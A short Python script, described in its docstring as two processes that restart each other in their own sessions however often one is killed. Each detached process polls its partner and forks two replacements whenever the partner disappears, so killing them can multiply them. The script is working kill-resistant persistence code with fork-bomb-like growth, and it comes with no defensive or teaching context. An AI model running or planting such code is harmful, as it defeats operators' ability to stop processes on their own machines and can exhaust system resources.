"""Two processes that start each other anew, in sessions of their own, however often one is killed."""

import os
import time


def head(other):
    os.setsid()
    while True:
        try:
            os.kill(other, 0)
        except OSError:
            for _ in range(2):
                if (child := os.fork()) == 0:
                    head(os.getppid())
                other = child
        time.sleep(0.05)


for _ in range(2):
    try:
        if os.fork() == 0:
            head(os.getppid())
    except OSError:
        pass
os._exit(1)
